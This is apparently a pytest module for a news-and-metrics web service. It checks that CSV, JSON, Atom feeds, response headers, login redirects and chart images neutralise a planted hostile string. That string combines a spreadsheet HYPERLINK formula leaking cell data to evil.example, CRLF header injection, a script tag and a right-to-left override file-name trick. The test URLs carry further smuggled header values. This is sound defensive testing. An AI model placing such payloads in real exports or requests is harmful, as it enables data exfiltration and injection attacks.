"""Formulas, line breaks and direction marks planted in every text of a page come out inert in each kind of answer."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import httpx
import pytest
from PIL import Image

from items.news import Subscription
from storage import subscriptions
from storage.database import Database
from tests.builders import NOON, Rows, side
from tests.databases import fresh_sqlite
from tests.web.serving import TOKEN, served
from web.charts import chart
from web.pictures import HEAD, png

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1)\r\nX-Evil: 1\r\n\r\n<script>hacked=1</script>\u202etxt.exe'
LISTS = ("releases", "figures", "metrics", "changes", "crawls", "sources", "subscriptions", "search?q=7")
TABLES = (
    *(f"/api/v1/{path}{'&' if '?' in path else '?'}format=csv" for path in LISTS),
    "/api/v1/metrics/1/history.csv",
)


@pytest.fixture(scope="module")
def client(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    with fresh_sqlite(sqlite_template, tmp_path_factory.mktemp("planted")) as database:
        plant(database)
        with served(database, token=TOKEN) as address, httpx.Client(base_url=address) as opened:
            yield opened


def plant(database: Database) -> None:
    with database.writing() as session:
        make = Rows(session)
        source = make.source(FORMULA, url=FORMULA, state="unreadable", state_reason=FORMULA, schedule=FORMULA)
        release = make.release(source, FORMULA, f"{FORMULA}\n7", url=FORMULA, published=date(2026, 1, 1))
        make.revise(release, FORMULA, f"{FORMULA}\n7 and 8")
        metric = make.metric(source, FORMULA, unit=FORMULA)
        for text, value in (("7", 7), ("8", 8)):
            figure = make.figure(release, text, value, subject=FORMULA, period=FORMULA, unit=FORMULA, sentence=FORMULA)
            make.observation(metric, figure)
        old, new = side(5, FORMULA, text=FORMULA), side(7, FORMULA, text=FORMULA)
        make.change(release, metric_id=metric.id, revision=2, note=FORMULA, old=old, new=new)
        make.crawl(source, outcome="failed", reason=FORMULA)
        wish = Subscription(address="reader@example.org", sources=(FORMULA,), metric="=7")
        subscriptions.add(session, wish, now=NOON)


@pytest.mark.parametrize("path", TABLES)
def test_no_cell_of_a_table_starts_a_formula(client: httpx.Client, path: str) -> None:
    answer = client.get(path)
    assert (answer.status_code, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8")
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("=" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert {len(row) for row in rows} == {len(rows[0])}


@pytest.mark.parametrize("path", [*LISTS, "releases/1", "metrics/1", "changes/1", "releases/1/explanation", "health"])
def test_json_stays_data(client: httpx.Client, path: str) -> None:
    answer = client.get(f"/api/v1/{path}")
    assert (answer.status_code, answer.headers["content-type"]) == (200, "application/json")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert json.loads(answer.text)


@pytest.mark.parametrize("path", ["/feeds/changes.atom", "/feeds/releases.atom", "/feeds/releases.atom?query=7"])
def test_feeds_stay_well_formed_and_link_nowhere_else(client: httpx.Client, path: str) -> None:
    feed = ElementTree.fromstring(client.get(path).content)
    atom = "{http://www.w3.org/2005/Atom}"
    assert len(feed.findall(f"{atom}entry")) == 1
    assert {child.tag for child in feed.iter()} <= {
        atom + name
        for name in "feed id title updated link author name entry published summary category".split()  # noqa: SIM905
    }
    assert all(link.attrib["href"].startswith(str(client.base_url)) for link in feed.iter(f"{atom}link"))


@pytest.mark.parametrize(
    "path",
    [
        *TABLES,
        "/metrics/1",
        "/metrics/1/chart.png",
        "/releases/1/revisions/2",
        "/api/v1/releases?format=csv&limit=1&query=7%0d%0aX-Evil:+1",
        "/feeds/changes.atom?source=x%0d%0aX-Evil:+1",
        "/login?next=/%0d%0aX-Evil:+1",
        "/releases%0d%0aX-Evil:1",
    ],
)
def test_no_text_begins_a_header(client: httpx.Client, path: str) -> None:
    headers = client.get(path).headers
    assert "x-evil" not in headers
    assert not any(set(value) & {"\r", "\n", "\u202e"} for value in headers.values())


def test_a_way_back_after_signing_in_begins_no_header(client: httpx.Client) -> None:
    answer = client.post("/login", data={"token": TOKEN, "next": "/releases\r\nX-Evil: 1"})
    assert (answer.status_code, answer.headers["location"]) == (303, "/")


def point(value: float, published: str) -> dict[str, object]:
    plain = {"release": 1, "period": None, "sentence": FORMULA, "value_max": None, "qualifier": "exact", "text": ""}
    return {**plain, "value": value, "published": published}


@pytest.mark.parametrize(
    ("title", "written"),
    [
        ("cell therapy products " * 30, True),
        (FORMULA.partition("\u202e")[0], True),
        ("a \U0010fffd b", False),
        ("", False),
    ],
)
def test_a_picture_writes_its_title_as_text_or_not_at_all(title: str, written: bool) -> None:
    drawn = chart([point(1, "2024-01-01"), point(2, "2024-06-01")], width=880, height=300)
    assert drawn is not None
    picture = Image.open(io.BytesIO(png(drawn, title))).convert("RGB")
    assert picture.info == {}
    head = picture.crop((0, 0, picture.width, 2 * HEAD))
    assert (len(head.getcolors(100_000) or ()) > 1) is written
    assert picture.crop((picture.width - 24, 0, picture.width, 2 * HEAD)).getcolors() == [
        (24 * 2 * HEAD, (255, 255, 255))
    ]
